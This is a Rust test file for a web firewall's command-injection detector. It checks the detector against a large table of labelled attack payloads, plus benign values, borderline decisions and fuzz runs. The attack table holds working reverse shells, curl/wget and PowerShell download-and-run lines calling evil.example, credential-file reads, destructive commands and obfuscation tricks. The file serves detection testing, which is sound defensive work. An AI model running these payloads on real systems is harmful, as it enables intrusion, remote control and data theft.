//! [`is_cmdi`] against a table of attacks (each with the reason expected
//! to catch it), a table of ordinary values that must pass, the
//! borderline cases with the decision taken and why, and a deterministic
//! fuzz run for totality and bounded work.
//!
//! `cargo test -p edgewall-engine waf::detect::cmdi -- --nocapture` prints
//! the counts.

use super::shell_lexer::{Kind, Lexer, Quote, MAX_TOKENS};
use super::*;
use crate::testing::Rng;

use CmdiReason as C;

/// `(name, input, reason)`: the name says what the row shows.
const ATTACKS: &[(&str, &str, CmdiReason)] = &[
    // After a separator that ends a one-word argument.
    (
        "semicolon after an ip, reader",
        "127.0.0.1; cat /etc/passwd",
        C::Command,
    ),
    ("semicolon after an ip, bare id", "127.0.0.1;id", C::Recon),
    ("pipe after an ip", "127.0.0.1 | id", C::Recon),
    ("and-if", "127.0.0.1 && whoami", C::Recon),
    ("or-if with an option", "127.0.0.1 || uname -a", C::Recon),
    ("background ampersand", "127.0.0.1 & whoami", C::Recon),
    ("newline (a decoded %0a)", "127.0.0.1\nid", C::Recon),
    ("crlf", "a\r\nid", C::Recon),
    (
        "after a hostname, ls with an option",
        "example.com;ls -la",
        C::Recon,
    ),
    (
        "after a file name, ls with a path",
        "foo.txt; ls /var/www",
        C::Recon,
    ),
    ("value starts with ;", ";id", C::Recon),
    ("value starts with |", "|id", C::Recon),
    ("value starts with ||, trailing ;", "||id;", C::Recon),
    ("value starts with &&", "&&id", C::Recon),
    ("trailing comment", "; id #", C::Recon),
    ("uname -a", "x;uname -a", C::Recon),
    ("hostname", "1;hostname", C::Recon),
    ("ifconfig", "1;ifconfig", C::Recon),
    ("netstat with options", "1|netstat -an", C::Recon),
    ("ps aux", "1;ps aux", C::Recon),
    ("printenv", "1;printenv", C::Recon),
    ("env bare", "1;env", C::Recon),
    ("pwd", "1;pwd", C::Recon),
    ("two recon commands", "1; id; whoami", C::Recon),
    ("bare command followed by another", "x;id;ls /", C::Recon),
    ("subshell group", "a;(id)", C::Recon),
    ("brace group", "a;{ id; }", C::Recon),
    ("reader on shadow", "test;cat /etc/shadow", C::Command),
    ("tac", "a;tac /etc/passwd", C::Command),
    ("head with option", "a;head -n 5 /etc/passwd", C::Command),
    ("tail of a log", "a;tail /var/log/auth.log", C::Command),
    ("more", "a|more /etc/hosts", C::Command),
    ("less", "a;less /etc/passwd", C::Command),
    ("nl", "a;nl /etc/passwd", C::Command),
    ("od", "a;od -c /etc/passwd", C::Command),
    ("xxd", "a;xxd /etc/passwd", C::Command),
    ("strings", "a;strings /bin/ls", C::Command),
    ("reader on a file name", "a;cat flag.txt", C::Command),
    (
        "reader with input redirection",
        "a;cat</etc/passwd",
        C::Command,
    ),
    ("reader with a glob argument", "a;cat /etc/pa*", C::Command),
    ("rm -rf", "file.txt; rm -rf /", C::Command),
    ("chmod mode", "a;chmod 777 /tmp/x", C::Command),
    ("chmod +x", "a;chmod +x /tmp/x", C::Command),
    ("mkfifo", "a;mkfifo /tmp/f", C::Command),
    ("crontab -l", "a;crontab -l", C::Command),
    ("kill -9", "a;kill -9 1", C::Command),
    ("find from the root", "a;find / -name '*.conf'", C::Command),
    ("find -exec", "a;find . -exec id \\;", C::Command),
    (
        "echo piped into base64 and written",
        "a; echo PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs= | base64 -d > /var/www/x.php",
        C::Command,
    ),
    (
        "echo redirected into the web root",
        "a;echo pwned > /var/www/html/x.txt",
        C::Command,
    ),
    ("printf redirected", "a;printf 'x' > /tmp/y", C::Command),
    ("awk system()", "a;awk 'BEGIN {system(\"id\")}'", C::Command),
    ("sed printing a file", "a;sed -n 1p /etc/passwd", C::Command),
    ("base64 -d", "a; base64 -d /tmp/x", C::Command),
    ("full path /bin/cat", "a;/bin/cat /etc/passwd", C::Command),
    ("full path /usr/bin/id", "a;/usr/bin/id", C::Recon),
    ("sudo wrapper", "a;sudo cat /etc/shadow", C::Command),
    // Network.
    (
        "wget to /tmp",
        "a;wget http://evil.example/shell.sh -O /tmp/s",
        C::Download,
    ),
    (
        "curl piped to sh",
        "a;curl -s http://evil.example/x | sh",
        C::Download,
    ),
    (
        "curl without a scheme",
        "a;curl evil.example/x -o /tmp/x",
        C::Download,
    ),
    (
        "full path /usr/local/bin/wget",
        "a;/usr/local/bin/wget http://evil.example/x",
        C::Download,
    ),
    ("nc to an address", "a;nc 1.2.3.4 4444", C::Command),
    ("nc listener", "a;nc -lvp 4444", C::Command),
    ("telnet", "a;telnet 1.2.3.4 23", C::Command),
    ("ssh user@ip", "a;ssh root@1.2.3.4", C::Command),
    ("scp out", "a;scp /etc/passwd evil@1.2.3.4:/tmp", C::Command),
    ("ftp", "a;ftp evil.example", C::Download),
    ("tftp", "a;tftp -i 1.2.3.4 GET x", C::Download),
    (
        "nslookup for out-of-band",
        "| nslookup evil.example",
        C::Command,
    ),
    ("dig", "a;dig evil.example", C::Command),
    ("host", "a;host evil.example", C::Command),
    ("ping count as a delay", "; ping -c 10 127.0.0.1", C::Delay),
    (
        "busybox telnetd",
        "; /bin/busybox telnetd -p 9999",
        C::Command,
    ),
    // Reverse shells.
    ("nc -e", "a;nc -e /bin/sh 1.2.3.4 4444", C::ReverseShell),
    (
        "ncat -e after the address",
        "a;ncat 1.2.3.4 4444 -e /bin/bash",
        C::ReverseShell,
    ),
    (
        "socat exec",
        "a;socat tcp:1.2.3.4:4444 exec:/bin/sh",
        C::ReverseShell,
    ),
    (
        "busybox nc -e",
        "a;busybox nc 1.2.3.4 4444 -e sh",
        C::ReverseShell,
    ),
    (
        "nohup nc -e in the background",
        "a;nohup nc -e /bin/sh 1.2.3.4 4444 &",
        C::ReverseShell,
    ),
    (
        "bash /dev/tcp at the start",
        "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        C::ReverseShell,
    ),
    (
        "bash /dev/tcp after ;",
        "a; bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
        C::ReverseShell,
    ),
    (
        "sh /dev/udp",
        "a;sh -i >& /dev/udp/1.2.3.4/53 0>&1",
        C::ReverseShell,
    ),
    (
        "exec fd to /dev/tcp",
        "a;exec 5<>/dev/tcp/1.2.3.4/80",
        C::ReverseShell,
    ),
    (
        "fd 196 reverse shell",
        "a;0<&196;exec 196<>/dev/tcp/1.2.3.4/4444; sh <&196 >&196 2>&196",
        C::ReverseShell,
    ),
    (
        "nc -e at the start",
        "nc -e /bin/sh 1.2.3.4 4444",
        C::ReverseShell,
    ),
    (
        "mkfifo reverse shell",
        "a;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f",
        C::Command,
    ),
    // Interpreters.
    ("bash -c", "a;bash -c 'id'", C::Interpreter),
    ("sh -c", "a;sh -c id", C::Interpreter),
    (
        "python -c",
        "a;python -c 'import os;os.system(\"id\")'",
        C::Interpreter,
    ),
    (
        "python3 pty",
        "a;python3 -c 'import pty;pty.spawn(\"/bin/bash\")'",
        C::Interpreter,
    ),
    (
        "perl -e with backticks in its code",
        "; perl -e 'print `id`'",
        C::Interpreter,
    ),
    ("php -r", "a;php -r 'system(\"id\");'", C::Interpreter),
    ("ruby -e", "a;ruby -e 'exec \"/bin/sh\"'", C::Interpreter),
    (
        "node -e",
        "a;node -e 'require(\"child_process\").exec(\"id\")'",
        C::Interpreter,
    ),
    ("lua -e", "a;lua -e 'os.execute(\"id\")'", C::Interpreter),
    ("bash running a script", "a;bash /tmp/x.sh", C::Interpreter),
    ("eval of a quoted command", "a;eval 'id'", C::Interpreter),
    ("a shell fed by a pipe", "x|sh", C::Interpreter),
    ("/bin/sh -c at the start", "/bin/sh -c id", C::Interpreter),
    // Substitutions.
    ("$(id) alone", "$(id)", C::Recon),
    ("backticks alone", "`id`", C::Recon),
    ("$(whoami)", "$(whoami)", C::Recon),
    ("glued to a word", "x$(cat /etc/passwd)", C::Command),
    ("assigned", "name=$(uname -a)", C::Recon),
    ("backticks with a reader", "`cat /etc/passwd`", C::Command),
    (
        "here-string reversed into a command word",
        "$(rev<<<'di')",
        C::Evasion,
    ),
    (
        "printf output run as a command",
        "a;$(printf '\\x69\\x64')",
        C::Evasion,
    ),
    ("echo output run as a command", "a;`echo id`", C::Evasion),
    (
        "nc.traditional -e",
        "a;nc.traditional -e /bin/sh 1.2.3.4 80",
        C::ReverseShell,
    ),
    (
        "base64 decoded into a shell",
        "a;echo aWQ= | base64 -d | bash",
        C::Command,
    ),
    (
        "out-of-band dns exfiltration",
        "ping $(whoami).evil.example",
        C::Recon,
    ),
    ("backticks glued", "a`whoami`", C::Recon),
    ("delay in $()", "$(sleep 5)", C::Delay),
    ("delay in backticks", "`sleep 10`", C::Delay),
    ("process substitution", "x<(id)", C::Recon),
    ("substitution inside double quotes", "\"$(id)\"", C::Recon),
    ("argument of echo", "a;echo $(id)", C::Recon),
    (
        "$() after prose, with a path",
        "hello $(cat /etc/passwd)",
        C::Command,
    ),
    // Quoted contexts.
    (
        "closing a single quote",
        "'; cat /etc/passwd; '",
        C::Command,
    ),
    ("closing a single quote after a word", "x'; id; '", C::Recon),
    ("closing a double quote", "\"; id; \"", C::Recon),
    (
        "closing a double quote, comment",
        "\"; cat /etc/passwd #",
        C::Command,
    ),
    ("and-if from a single quote", "' && whoami && '", C::Recon),
    (
        "pipe from a single quote",
        "' | nc 1.2.3.4 4444 '",
        C::Command,
    ),
    (
        "download from a double quote",
        "\" | wget http://evil.example/x \"",
        C::Download,
    ),
    (
        "delay from a single quote",
        "a' ; ping -c 5 127.0.0.1 ; '",
        C::Delay,
    ),
    ("substitution right after the quote", "'$(id)'", C::Recon),
    ("backticks inside double quotes", "foo\"`id`\"", C::Recon),
    // Spellings that hide the command name.
    ("empty single quotes", "a;c''at /etc/passwd", C::Evasion),
    ("split single quotes", "a;c'a't /etc/passwd", C::Evasion),
    ("split double quotes", "a;c\"a\"t /etc/passwd", C::Evasion),
    ("backslash", "a;c\\at /etc/passwd", C::Evasion),
    ("carets", "a;w^h^o^a^m^i", C::Evasion),
    ("carets after &", "a&w^h^o^a^m^i", C::Evasion),
    ("$@", "a;ca$@t /etc/passwd", C::Evasion),
    ("empty $()", "a;c$()at /etc/passwd", C::Evasion),
    ("positional parameter", "a;who$1ami", C::Evasion),
    ("unset variable", "a;c${u}at /etc/passwd", C::Evasion),
    ("$IFS", "a;cat$IFS/etc/passwd", C::Evasion),
    ("${IFS}", "a;cat${IFS}/etc/passwd", C::Evasion),
    ("$IFS$9", "a;cat$IFS$9/etc/passwd", C::Evasion),
    ("brace list", "a;{cat,/etc/passwd}", C::Evasion),
    (
        "brace list download",
        ";{wget,-q,http://evil.example/x}",
        C::Evasion,
    ),
    ("ansi-c hex", "a;$'\\x63\\x61\\x74' /etc/passwd", C::Evasion),
    (
        "ansi-c octal",
        "a;$'\\143\\141\\164' /etc/passwd",
        C::Evasion,
    ),
    ("ansi-c unicode", "a;$'\\u0069\\u0064'", C::Evasion),
    (
        "variable holding the command",
        ";X=$'cat\\x20/etc/passwd'&&$X",
        C::Evasion,
    ),
    (
        "${PATH:0:1} for slashes",
        "|${PATH:0:1}bin${PATH:0:1}id",
        C::Evasion,
    ),
    (
        "${HOME:0:1} for slashes",
        "a;${HOME:0:1}bin${HOME:0:1}cat /etc/passwd",
        C::Evasion,
    ),
    ("quotes inside the path", ";/b'i'n/s'h' -c id", C::Evasion),
    ("quoted directory", "a;\"/bin/\"cat /etc/passwd", C::Evasion),
    (
        "cmd substring of COMSPEC",
        "a&%COMSPEC:~-7,3% /c whoami",
        C::Evasion,
    ),
    ("caret in cmd", "a|c^md /c dir", C::Evasion),
    ("disguised at the start", "c''at /etc/passwd", C::Evasion),
    (
        "disguised after prose",
        "tell me how; c'a't /etc/passwd",
        C::Evasion,
    ),
    // Globs.
    ("question marks", ";/???/c?t /???/p?ss??", C::Glob),
    ("glob for id", "||/usr/bin/i?", C::Glob),
    ("star", "a;/b??/ca* /e??/p*d", C::Glob),
    ("bracket", "a;/bin/c[a]t /etc/passwd", C::Glob),
    // Windows.
    ("dir of a drive", "& dir c:\\", C::Recon),
    ("dir of a folder", "a & dir C:\\Users", C::Recon),
    ("net user add", "| net user eve P@ss /add", C::Recon),
    (
        "net localgroup",
        "a & net localgroup administrators eve /add",
        C::Recon,
    ),
    ("ipconfig", "a&ipconfig", C::Recon),
    ("ipconfig /all", "a&ipconfig /all", C::Recon),
    ("systeminfo", "a|systeminfo", C::Recon),
    ("tasklist", "a&tasklist", C::Recon),
    ("ver", "a&ver", C::Recon),
    ("set", "a&set", C::Recon),
    ("upper-case whoami", "A & WHOAMI", C::Recon),
    ("whoami /priv", "a&whoami /priv", C::Recon),
    ("type a file", "a & type C:\\Windows\\win.ini", C::Command),
    ("cmd /c", "a & cmd /c whoami", C::Interpreter),
    ("cmd.exe /c", "a & cmd.exe /c dir", C::Interpreter),
    (
        "cmd by full path",
        "a & C:\\Windows\\System32\\cmd.exe /c whoami",
        C::Interpreter,
    ),
    (
        "powershell -enc",
        "a | powershell -enc SQBFAFgA",
        C::Interpreter,
    ),
    (
        "powershell hidden -e",
        "a | powershell -nop -w hidden -e SQBFAFgA",
        C::Interpreter,
    ),
    (
        "powershell -EncodedCommand",
        "a & PowerShell -EncodedCommand SQBFAFgA",
        C::Interpreter,
    ),
    (
        "powershell IEX cradle",
        "a & powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x')",
        C::Download,
    ),
    (
        "powershell iwr cradle",
        "a & powershell -c \"IEX (iwr http://evil.example/x)\"",
        C::Download,
    ),
    (
        "certutil -urlcache",
        "a & certutil -urlcache -split -f http://evil.example/x.exe x.exe",
        C::Download,
    ),
    (
        "bitsadmin",
        "a & bitsadmin /transfer j http://evil.example/x C:\\x.exe",
        C::Download,
    ),
    ("mshta", "a & mshta http://evil.example/x.hta", C::Download),
    (
        "regsvr32 squiblydoo",
        "a & regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
        C::Download,
    ),
    (
        "wmic process",
        "a & wmic process call create calc",
        C::Recon,
    ),
    (
        "wscript",
        "a & wscript C:\\Users\\Public\\x.vbs",
        C::Interpreter,
    ),
    ("timeout /t", "a & timeout /t 10", C::Delay),
    ("ping -n", "a & ping -n 10 127.0.0.1", C::Delay),
    // At the start of the value, with shell around it.
    ("reader at the start", "cat /etc/passwd", C::Command),
    ("ls at the start", "ls -la /", C::Recon),
    ("recon redirected at the start", "whoami > /tmp/x", C::Recon),
    ("recon piped at the start", "id | nc 1.2.3.4 4444", C::Recon),
    (
        "download at the start",
        "wget http://evil.example/x -O /tmp/x",
        C::Download,
    ),
    // Delays.
    ("sleep", "a;sleep 5", C::Delay),
    ("sleep between and-ifs", "a && sleep 10 &&", C::Delay),
    ("sleep after a pipe", "a|sleep 5", C::Delay),
];

/// Ordinary values, written as people write them.
const BENIGN: &[&str] = &[
    // Prose with separators in it.
    "Tom & Jerry; cat lovers welcome",
    "ls is a unix command",
    "I'm at home | office",
    "Q&A",
    "R&D; id card lost",
    "Run `ls -la` then cat the file",
    "use | grep foo",
    "cats & dogs",
    "Ben & Jerry's",
    "AT&T",
    "H&M; Zara; Uniqlo",
    "rock & roll",
    "Salt & pepper; oil",
    "Terms & Conditions",
    "This is great; I love it",
    "Hello | World",
    "yes/no",
    "more or less",
    "find the best hotel near me",
    "sleep 8 hours a night",
    "the id of the user is 42",
    "kill time",
    "Please type your name",
    "host a party",
    "I need more information; please call me",
    "cat and mouse",
    "echo chamber",
    "set up my account",
    "Directions: head north, then east",
    "Hi,\nls -la shows hidden files too.",
    "Line one\nLine two\nLine three",
    "Dear team,\ncat food is running low.\nThanks",
    "First line\nid: 12345",
    "Price: $5.99 & free shipping",
    "50% off; today only",
    "100% cotton",
    "Save $$$ now!",
    "Cost is $10 (incl. tax)",
    "Shipping & handling: $4.95",
    "What's up? Not much; you?",
    "O'Reilly",
    "D'Angelo's pizza & pasta",
    "It's 5 o'clock somewhere",
    "don't stop",
    "\"quoted\" text",
    "She said \"hi\"; then left",
    "rock'n'roll",
    "Mon-Fri 9am-5pm; Sat 10am-2pm",
    "Rating: 5/5 && would buy again",
    "1 & 2 & 3",
    "A|B testing",
    "yes || no",
    "Q: what is 2 > 1? A: true",
    "I <3 cats & dogs",
    "Smith & Wesson",
    "Johnson & Johnson; P&G",
    "ping me when you're free",
    "host: db.example.com",
    "My cat's name is Tom",
    "kill -9 is a bad habit",
    "Done!\nThanks",
    "php developer | remote | full-time",
    "The cat sat on the mat.",
    "Python is fun; Ruby too",
    "Perl & Python developers wanted",
    "Node.js | React | TypeScript",
    "curl is a great tool",
    "Who am I?",
    "ID: 12345",
    "User ID; Name; Email",
    "name;id;email",
    "pdf|ps|eps",
    "sort=name|id|date",
    "tags: linux; bash; shell",
    "linux;bash;shell",
    "cat|dog|bird",
    "sleep; eat; repeat",
    "Game;Set;Match",
    "{cat,dog}",
    "id",
    "ls",
    "whoami",
    "sleep 10",
    // Forum posts with shell in prose or markdown.
    "To list files, run ls -la in your terminal.",
    "Use `cat file.txt` to print it",
    "I ran `id` and got uid=1000",
    "Try `ping 8.8.8.8` to test your connection",
    "Type `whoami` to see your user name",
    "Install with `pip install requests`",
    "Check `/etc/hosts` for entries",
    "In bash, $HOME is your home directory",
    "echo is a shell builtin",
    "The file is at /var/log/syslog",
    "Error: cannot open /etc/passwd",
    // Identifiers, addresses, files.
    "john.doe@example.com",
    "john.doe+newsletter@example.com",
    "example.com",
    "192.168.1.1",
    "10.0.0.1:8080",
    "https://example.com/path?a=1&b=2",
    "https://example.com/search?q=cat&page=2",
    "http://example.com/?id=5&sort=asc",
    "/etc/nginx/nginx.conf",
    "/usr/bin/python3",
    "C:\\Users\\John\\Documents\\report.docx",
    "C:\\Program Files\\App\\app.exe",
    "report_final_v2.pdf",
    "my file (1).txt",
    "photo-2024-01-01.jpg",
    "~/Documents/notes.txt",
    "../images/logo.png",
    "2024-01-15T10:30:00Z",
    "15/01/2024",
    "10:30 AM",
    "+1 (555) 123-4567",
    // Code, math, data.
    "5 > 3 && 2 < 4",
    "a || b",
    "x && y",
    "if (a) { b; }",
    "for (i = 0; i < n; i++) { sum += i; }",
    "function f() { return a && b; }",
    "const x = a ?? b;",
    "$(document).ready(function() { $('#id').hide(); });",
    "$(this).addClass('active')",
    "var id = $(id).val();",
    "a = b | c",
    "SELECT * FROM users WHERE id = 1",
    "{\"name\": \"John\", \"age\": 30}",
    "{\"cmd\":\"ls\",\"args\":[\"-la\"]}",
    "[1, 2, 3]",
    "<b>bold</b>",
    // Headers and cookies.
    "key=value; path=/; HttpOnly",
    "session=abc123; Path=/; Secure",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8",
    "gzip, deflate, br",
    "en-US,en;q=0.9",
    "no-cache",
    "bytes=0-1023",
    "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
    // Found by probing, written before the rules that let them through.
    "```\nls -la\n```",
    "```sh\nnpm install && npm run build\n```",
    "rm -rf is dangerous",
    "net user guide",
    "Hi there; whoami is a good question",
    "Meeting notes:\nls -la output attached",
    "ps: I love you",
    "env=production&debug=1",
    "https://example.com/a?x=1&id=2",
    "npm install && npm run build",
    "cd /tmp && ls",
    "./configure --prefix=/usr && make && make install",
    "echo hello world",
    "Use the following: curl -X POST https://api.example.com/v1/items",
    "if [ -f /etc/passwd ]; then echo yes; fi",
    "for f in *.txt; do cat \"$f\"; done",
    "Item #1; Item #2",
    "C# & F# developers",
    "more info | contact us",
    "head office; branch office",
    "less is more",
    "type: admin",
    "host=db1;port=5432;user=app",
    "Server=myServer;Database=myDB;User Id=myUser;Password=myPass;",
    "{\"a\":\"b;id\"}",
    "a;b;c;d",
    "%PATH%",
    "50% & rising",
    "^_^",
    ";-)",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\server\\share\\file.txt",
    "echo $(date)",
    "Type `whoami` in the terminal and press enter",
];

/// Cases where reasonable people differ: the decision, and why.
const BORDERLINE: &[(&str, bool, &str)] = &[
    (
        "ls -la",
        true,
        "a command with an option as the whole value is what a web shell's `cmd=` receives; \
         the price is a search box where someone types a command",
    ),
    (
        "python3 -m venv .venv",
        true,
        "the same: a command line as the whole value",
    ),
    (
        "sleep 10",
        false,
        "a delay only probes when it follows an injection point; at the start it is a phrase",
    ),
    (
        "hello; cat /etc/passwd",
        true,
        "one word before `;` is what an argument looks like",
    ),
    (
        "hello there; cat /etc/passwd",
        false,
        "prose before `;` is not an argument the application passed on; only disguised \
         commands count after it",
    ),
    (
        "pdf;ps",
        true,
        "a bare `ps` ending the value after a one-word argument is `x;ps`; the price is lists \
         of file types ending in ps",
    ),
    (
        "name;id",
        true,
        "the same for `id`; `name;id;email` is let through because a bare command must be \
         followed by a command, not a word",
    ),
    (
        "see `cat /etc/passwd` output",
        false,
        "backticks after prose are markdown unless they hold a pipe, redirection or trick",
    ),
    (
        "The command `ls -la | grep foo` lists files",
        true,
        "a pipe inside backticks is shell structure even in prose",
    ),
    (
        "Try `ping 8.8.8.8` to test",
        false,
        "an address inside markdown backticks is documentation",
    ),
    (
        "var id = $(id).val();",
        false,
        "jQuery: a bare name in `$(…)` after prose",
    ),
    (
        "Game;Set;Match",
        false,
        "`set` bare counts after cmd.exe separators only, and `;` is not one",
    ),
    (
        "a&set",
        true,
        "after `&`, `set` dumps the environment in cmd.exe",
    ),
];

fn check(input: &str) -> Option<CmdiMatch> {
    is_cmdi(input.as_bytes())
}

/// Every failure at once, with counts; fails when nothing ran.
fn report(what: &str, total: usize, failed: &[String]) {
    println!("{what}: {}/{total} as expected", total - failed.len());
    assert!(total > 0, "{what}: no cases ran");
    assert!(
        failed.is_empty(),
        "{what}: {} of {total} failed:\n{}",
        failed.len(),
        failed.join("\n")
    );
}

#[test]
fn cmdi_attacks_are_detected_for_the_expected_reason() {
    let mut failed = Vec::new();
    for &(name, input, want) in ATTACKS {
        match check(input) {
            Some(m) if m.reason == want => {}
            Some(m) => failed.push(format!("{name}: {input:?}: want {want:?}, got {m}")),
            None => failed.push(format!("{name}: {input:?}: want {want:?}, not detected")),
        }
    }
    report("cmdi attacks", ATTACKS.len(), &failed);
}

#[test]
fn ordinary_values_are_not_cmdi() {
    let mut failed = Vec::new();
    for input in BENIGN.iter().chain(super::tests::BENIGN) {
        if let Some(m) = check(input) {
            failed.push(format!("{input:?}: {m}"));
        }
    }
    report(
        "cmdi benign (own and sqli/xss tables)",
        BENIGN.len() + super::tests::BENIGN.len(),
        &failed,
    );
}

#[test]
fn cmdi_borderline_cases_are_decided_as_documented() {
    let mut failed = Vec::new();
    for &(input, flagged, why) in BORDERLINE {
        let got = check(input);
        if got.is_some() != flagged {
            failed.push(format!(
                "{input:?}: want flagged={flagged} ({why}), got {:?}",
                got.map(|m| m.to_string())
            ));
        }
    }
    report("cmdi borderline", BORDERLINE.len(), &failed);
}

#[test]
fn cmdi_tables_are_large_and_named_uniquely() {
    assert!(ATTACKS.len() >= 120, "{}", ATTACKS.len());
    assert!(BENIGN.len() >= 120, "{}", BENIGN.len());
    let mut names: Vec<&str> = ATTACKS.iter().map(|a| a.0).collect();
    names.sort_unstable();
    let before = names.len();
    names.dedup();
    assert_eq!(before, names.len(), "duplicate attack row names");
    let mut inputs: Vec<&str> = BENIGN.to_vec();
    inputs.sort_unstable();
    inputs.dedup();
    assert_eq!(inputs.len(), BENIGN.len(), "duplicate benign rows");
}

#[test]
fn cmdi_matches_explain_themselves_for_the_log() {
    let show = |s: &str| check(s).map(|m| m.to_string());
    assert_eq!(
        show("127.0.0.1;id").as_deref(),
        Some("command injection: reconnaissance command id (after a separator, as-is)")
    );
    assert_eq!(
        show("x'; c''at /etc/passwd; '").as_deref(),
        Some("command injection: disguised command cat (after a separator, in '…')")
    );
    assert_eq!(
        show("\"$(id)\"").as_deref(),
        Some("command injection: reconnaissance command id (in a substitution, as-is)")
    );
    assert_eq!(
        Detector::Cmdi
            .detect(b"a;/???/c?t /etc/passwd")
            .map(|d| d.to_string())
            .as_deref(),
        Some("command injection: glob matching a system binary cat (after a separator, as-is)")
    );
    assert_eq!(Detector::parse("cmdi"), Some(Detector::Cmdi));
}

/// Pieces shell payloads are made of.
const FRAGMENTS: &[&str] = &[
    "'",
    "\"",
    "`",
    " ",
    "\n",
    "(",
    ")",
    "{",
    "}",
    ",",
    ";",
    "|",
    "||",
    "&",
    "&&",
    "<",
    ">",
    "<<<",
    ">&",
    "2>&1",
    "$(",
    "$((",
    "${",
    "$IFS",
    "$@",
    "$'",
    "\\x63",
    "\\",
    "^",
    "%",
    "%COMSPEC:~",
    "#",
    "?",
    "*",
    "[",
    "]",
    "=",
    "X=",
    "$X",
    "cat",
    "id",
    "/etc/passwd",
    "/???/",
    "nc",
    "-e",
    "sh",
    "/dev/tcp/",
    "1.2.3.4",
    "http://",
    "powershell",
    "-enc",
    "sleep",
    "5",
    "\0",
    "\u{ff}",
];

fn fuzz_input(rng: &mut Rng, buf: &mut Vec<u8>) {
    buf.clear();
    let len = rng.below(64);
    match rng.below(3) {
        0 => buf.extend((0..len * 3).map(|_| rng.next() as u8)),
        1 => {
            for _ in 0..len {
                let f = FRAGMENTS[rng.below(FRAGMENTS.len())];
                buf.extend_from_slice(f.as_bytes());
            }
        }
        _ => {
            buf.extend_from_slice(ATTACKS[rng.below(ATTACKS.len())].1.as_bytes());
            for _ in 0..rng.below(6) {
                let at = rng.below(buf.len() + 1);
                match rng.below(3) {
                    0 => buf.insert(at, rng.next() as u8),
                    1 if at < buf.len() => {
                        buf.remove(at);
                    }
                    _ => {
                        let f = FRAGMENTS[rng.below(FRAGMENTS.len())];
                        buf.splice(at..at, f.bytes());
                    }
                }
            }
        }
    }
}

#[test]
fn cmdi_random_and_mutated_inputs_never_panic_and_stay_within_their_bounds() {
    let mut rng = Rng(0x2545_f491_4f6c_dd1d);
    let mut buf = Vec::new();
    let mut flagged = 0;
    const ITERATIONS: usize = 30_000;
    for _ in 0..ITERATIONS {
        fuzz_input(&mut rng, &mut buf);
        flagged += usize::from(is_cmdi(&buf).is_some());
        for quote in [Quote::None, Quote::Single, Quote::Double] {
            let mut lexer = Lexer::new(&buf, quote);
            let mut last = Kind::Word;
            for _ in 0..MAX_TOKENS + 10 {
                last = lexer.next_token().kind;
                if matches!(last, Kind::End | Kind::Cap) {
                    break;
                }
            }
            assert!(matches!(last, Kind::End | Kind::Cap), "{buf:?}");
            assert!(lexer.count() <= MAX_TOKENS);
        }
    }
    println!("cmdi fuzz: {ITERATIONS} inputs, {flagged} detections");
}

#[test]
fn cmdi_huge_pathological_inputs_finish() {
    // Each would take minutes if a reading were quadratic in its length.
    const PATTERNS: &[&str] = &[
        "'", "\"", "`", "$(", "((", "{", "{a,", "$'", "${", "%a", "%a:~1,", "\\", "^", "a ", "; ",
        "a;", "/???/", "*", "[", "$IFS", "<<<", "X=$X;",
    ];
    for p in PATTERNS {
        let input = p.repeat((1 << 18) / p.len());
        let _ = is_cmdi(input.as_bytes());
    }
    // A payload at the start of a huge value is still seen.
    let mut huge = String::from(";cat /etc/passwd;");
    huge.push_str(&"a ".repeat(1 << 17));
    assert!(is_cmdi(huge.as_bytes()).is_some());
}

/// Values that [`is_cmdi`] flags and [`is_cmdi_at_injection_points`] (the
/// paranoia-level-1 `cmdi` detector) lets through, or flags too, and why.
const POINTS: &[(&str, bool, &str)] = &[
    (
        "The docs say to run\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\n```\n\nIs it safe?",
        false,
        "a piped shell in a post's code block, after prose: no injection point",
    ),
    (
        "Running `docker run -v $(pwd):/app node npm test` creates files owned by root",
        false,
        "a substitution inside a quoted command line in prose",
    ),
    (
        "and before that I ran `ls /var/log | wc -l` which says 120000",
        false,
        "a markdown code span with a pipe, in prose",
    ),
    ("127.0.0.1; cat /etc/passwd", true, "after a one-word argument"),
    ("x' ; curl https://evil.example/s | sh ; '", true, "after a closed quote"),
    ("$(id)", true, "a substitution glued to its command"),
    (
        "hello there; c''at /etc/passwd",
        true,
        "a disguised command name is flagged even after prose",
    ),
    ("notes for today ;/???/c?t /???/p?ss??", true, "a glob path, even after prose"),
];

#[test]
fn injection_points_mode_lets_strong_shapes_in_prose_through() {
    for (input, flagged, why) in POINTS {
        assert!(
            is_cmdi(input.as_bytes()).is_some(),
            "is_cmdi must flag {input:?}"
        );
        assert_eq!(
            is_cmdi_at_injection_points(input.as_bytes()).is_some(),
            *flagged,
            "{input:?}: {why}"
        );
    }
    // Never more than the full detector.
    for input in BENIGN {
        assert!(
            is_cmdi_at_injection_points(input.as_bytes()).is_none(),
            "{input:?}"
        );
    }
}
